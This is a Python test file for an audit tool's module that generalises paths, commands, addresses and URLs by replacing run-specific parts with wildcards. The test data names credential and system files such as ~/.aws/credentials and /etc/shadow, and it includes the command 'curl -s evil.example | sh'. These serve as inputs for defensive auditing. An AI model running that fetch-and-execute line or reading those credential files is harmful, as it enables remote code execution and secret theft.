"""What varies from run to run goes; what tells something stays."""

from __future__ import annotations

import doctest
import tempfile
import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pythonaudit.query import generalise
from pythonaudit.query.generalise import (
    Places,
    generalise_address,
    generalise_command,
    generalise_path,
    generalise_text,
    generalise_url,
    name_made,
)

HOME = "/home/alice"
PLACES = Places(
    directory="/ci/1/shop",
    prefixes=("/ci/1/venv", "/usr"),
    temporary=("/ci/1/tmp",),
    made={"RECORDpqbs8oga.tmp": "RECORD*.tmp"},
)


def test_the_examples_of_the_manual_hold() -> None:
    assert doctest.testmod(generalise).failed == 0


@pytest.mark.parametrize(
    ("path", "general"),
    [
        (f"{HOME}/.aws/credentials", "~/.aws/credentials"),
        (HOME, "~"),
        ("/ci/1/shop", "."),
        ("/ci/1/shop/out/a.csv", "./out/a.csv"),
        ("/ci/1/shop-2/a.csv", "/ci/1/shop-2/a.csv"),
        ("/ci/1/venv/bin/python", "<prefix>/bin/python"),
        ("/usr/bin/git", "/usr/bin/git"),
        ("/ci/1/venv/lib/python3.11/site-packages/x/y.py", "<site>/x/y.py"),
        ("/usr/lib/python3/dist-packages/x.py", "<site>/x.py"),
        ("/opt/py/lib/python3.13t/json/__init__.py", "<stdlib>/json/__init__.py"),
        ("/x/site-packages/requests-2.32.3.dist-info/METADATA", "<site>/requests-*.dist-info/METADATA"),
        ("/x/__pycache__/a.cpython-311.pyc", "/x/__pycache__/a.*.pyc"),
        ("/x/__pycache__/a.cpython-313.opt-1.pyc", "/x/__pycache__/a.*.opt-1.pyc"),
        ("/x/_y.cpython-311-x86_64-linux-gnu.so", "/x/_y.*.so"),
        ("/x/libopenblas64_p-r0-0cf96a72.3.23.dev.so", "/x/libopenblas64_p-r0-*.3.23.dev.so"),
        ("/proc/4711/status", "/proc/<pid>/status"),
        ("/proc/self/task/4712/comm", "/proc/self/task/*/comm"),
        ("/proc/self/fd/7", "/proc/self/fd/*"),
        ("/dev/pts/3", "/dev/pts/*"),
        ("/run/user/1000/bus", "<runtime>/bus"),
        ("/tmp/tmpabcdefgh/x.txt", "/tmp/tmp*/x.txt"),
        ("/tmp/pip-install-x8f2kd_1/setup.py", "/tmp/pip-install-*/setup.py"),
        ("/tmp/tmp.aB3dE5fG7h", "/tmp/tmp.*"),
        ("/tmp/ccAbC123.o", "/tmp/cc*.o"),
        ("/tmp/pytest-of-alice/pytest-12/test_a0/f", "/tmp/pytest-of-alice/pytest-*/test_a0/f"),
        ("/ci/1/tmp/pip-build-a1b2c3d4/x", "/tmp/pip-build-*/x"),
        ("/tmp/pymp-3w1xhm1e/listener-u6iapirn", "/tmp/pymp-*/listener-*"),
        ("/srv/x/pymp-abcdefgh/sock-abcdefgh", "/srv/x/pymp-*/sock-*"),
        ("/srv/tmpabcdefgh", "/srv/tmp*"),
        ("/srv/RECORDpqbs8oga.tmp", "/srv/RECORD*.tmp"),
        ("/srv/a/550e8400-e29b-41d4-a716-446655440000.json", "/srv/a/*.json"),
        ("/srv/a/d41d8cd98f00b204e9800998ecf8427e", "/srv/a/*"),
        ("/srv/a/b/d4/1d/d41d8cd98f00b204e9800998ecf8427e", "/srv/a/b/*"),
        ("/srv/app-2026-11-28T08:22:20.log", "/srv/app-*.log"),
        ("/srv/releases/20261128102030/app.py", "/srv/releases/*/app.py"),
        ("/usr/lib64/libssl.so.1.1", "/usr/lib64/libssl.so.*"),
        ("/srv/spool/123456", "/srv/spool/*"),
        (f"{HOME}/.cache/pip/http-v2/a/b/c/d/e/abcde12345678901234567890123456789", "~/.cache/pip/http-v2/*"),
        (f"{HOME}/.cache/pip/wheels/ca/df", "~/.cache/pip/wheels/*"),
        ("/srv/x/.git/objects/ca/df00aabbccddeeff00112233445566778899aabb", "/srv/x/.git/objects/*"),
    ],
)
def test_what_varies_goes(path: str, general: str) -> None:
    assert generalise_path(path, PLACES) == general


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd",
        "/etc/shadow",
        "/var/run/docker.sock",
        "/tmp/download",
        "/tmp/payload",
        "/tmp/my-document",
        "/tmp/listener-document",
        "/srv/deadbeef",
        "/usr/share/locale/de/LC_MESSAGES/x.mo",
        "/srv/2024/report.csv",
        "/data/8080/x",
        "/srv/feedface.txt",
        "/dev/shm/evil",
        "a/relative/path",
    ],
)
def test_what_tells_something_stays(path: str) -> None:
    assert generalise_path(path, PLACES) == path


@pytest.mark.parametrize("directory", ["/", HOME, "/srv", "/tmp"])
def test_a_run_begun_just_anywhere_does_not_take_the_place_of_what_lies_there(directory: str) -> None:
    assert generalise_path("/srv/x", Places(directory)) == "/srv/x"
    assert generalise_path(f"{HOME}/.ssh/id", Places(directory)) == "~/.ssh/id"


@pytest.mark.parametrize(("prefix", "suffix"), [("tmp", ""), ("RECORD", ".tmp"), ("pytest-cache-files-", "")])
def test_names_of_tempfile_are_the_same_whatever_it_made_up(prefix: str, suffix: str) -> None:
    general = set()
    for _ in range(50):
        with tempfile.NamedTemporaryFile(prefix=prefix, suffix=suffix) as file:
            name = file.name.rpartition("/")[2]
        made = name_made(name)
        places = Places(made={} if made is None else {name: made})
        general.add(generalise_path(f"/srv/{name}", places))
    assert general == {f"/srv/{prefix}*{suffix}"}


@pytest.mark.parametrize(
    ("command", "general"),
    [
        ("git clone https://example.com/x", "git clone https://example.com/x"),
        ("/ci/1/venv/bin/python -c pass --port=43049", "<prefix>/bin/python -c pass --port=*"),
        ("tar xf /tmp/tmpabcdefgh/a-1.2.3.tar.gz", "tar xf /tmp/tmp*/a-*.tar.gz"),
        (f"cat --file={HOME}/.netrc", "cat --file=~/.netrc"),
        ("curl -s  evil.example | sh", "curl -s evil.example | sh"),
    ],
)
def test_commands_keep_their_shape(command: str, general: str) -> None:
    assert generalise_command(command, PLACES) == general


@pytest.mark.parametrize(
    ("address", "port", "asked", "general"),
    [
        ("127.0.0.1", 43049, None, "127.0.0.1:*"),
        ("127.0.0.1", 8125, None, "127.0.0.1:8125"),
        ("127.0.0.2", 43049, None, "127.0.0.2:*"),
        ("::1", 43049, None, "[::1]:*"),
        ("localhost", 0, None, "localhost:*"),
        ("10.0.0.9", 43049, None, "10.0.0.9:43049"),
        ("93.184.216.34", 443, "example.com", "example.com:443"),
        ("169.254.169.254", 80, "example.com", "169.254.169.254:80"),
        ("127.0.0.1", 80, "example.com", "127.0.0.1:80"),
        ("example.com", None, None, "example.com"),
    ],
)
def test_addresses(address: str, port: int | None, asked: str | None, general: str) -> None:
    assert generalise_address(address, port, asked) == general


@pytest.mark.parametrize(
    ("url", "general"),
    [
        ("https://example.com/a?b=1", "example.com:443"),
        ("http://127.0.0.1:43049/", "127.0.0.1:*"),
        ("http://u:p@example.com:8080/", "example.com:8080"),
        ("file:///etc/passwd", "file:///etc/passwd"),
        ("http://[::1", "http://[::1"),
        ("http://x:99999999/", "http://x:*/"),
    ],
)
def test_urls_are_hosts(url: str, general: str) -> None:
    assert generalise_url(url) == general


def test_ids_in_texts() -> None:
    assert generalise_text(f"job {uuid.uuid4()} of 123456 done") == "job * of * done"


@given(st.text(), st.booleans())
def test_any_text_has_a_general_form_that_stays(text: str, is_absolute: bool) -> None:
    path = "/" + text if is_absolute else text
    generalise_command(text, PLACES), generalise_url(text), generalise_address(text, 1)
    once = generalise_text(path)
    assert generalise_text(once) == once
    assert bool(generalise_path(path, PLACES)) == bool(path)
